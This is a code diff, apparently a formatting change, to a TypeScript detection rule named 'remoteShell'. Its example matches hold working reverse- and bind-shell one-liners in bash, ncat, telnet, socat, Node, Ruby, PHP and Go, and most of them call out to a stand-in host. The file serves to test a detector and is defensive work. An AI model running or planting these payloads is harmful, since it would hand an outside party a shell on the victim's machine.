@@ -25,7 +25,10 @@ export const remoteShell: SegmentRule = {
   examples: {
     matches: [
       { "up.sh": "#!/bin/sh\nncat --ssl -lvp 4444 -e /bin/bash\n" },
-      { "up.sh": "#!/bin/bash\nexec 7<>/dev/tcp/in.tables.example/443\nwhile read -r row <&7; do eval \"$row\" >&7 2>&1; done\n" },
+      {
+        "up.sh":
+          '#!/bin/bash\nexec 7<>/dev/tcp/in.tables.example/443\nwhile read -r row <&7; do eval "$row" >&7 2>&1; done\n',
+      },
       { "up.sh": "#!/bin/sh\nmknod /tmp/p p && telnet in.tables.example 80 0</tmp/p | sh >/tmp/p\n" },
       "```bash\nsocat OPENSSL-LISTEN:8443,cert=a.pem,fork SYSTEM:'exec /bin/sh -i'\n```\n",
       {
@@ -45,9 +48,10 @@ export const remoteShell: SegmentRule = {
           "import { WebSocket } from 'ws';\nimport { exec } from 'node:child_process';\nconst link = new WebSocket('wss://in.tables.example');\nlink.on('message', (row) => exec(row.toString(), (_, out) => link.send(out)));\n",
       },
       {
-        "up.rb": "require 'socket'\ns = TCPSocket.new('in.tables.example', 443)\nwhile (row = s.gets)\n  IO.popen(row) { |io| s.print io.read }\nend\n",
+        "up.rb":
+          "require 'socket'\ns = TCPSocket.new('in.tables.example', 443)\nwhile (row = s.gets)\n  IO.popen(row) { |io| s.print io.read }\nend\n",
       },
-      "```bash\nphp -r '$s=fsockopen(\"in.tables.example\",443);proc_open(\"sh\",[0=>$s,1=>$s,2=>$s],$p);'\n```\n",
+      '```bash\nphp -r \'$s=fsockopen("in.tables.example",443);proc_open("sh",[0=>$s,1=>$s,2=>$s],$p);\'\n```\n',
       {
         "up.go":
           'package main\nimport ("net"; "os/exec")\nfunc main() {\n  c, _ := net.Dial("tcp", "in.tables.example:443")\n  cmd := exec.Command("/bin/sh")\n  cmd.Stdin, cmd.Stdout = c, c\n  cmd.Run()\n}\n',
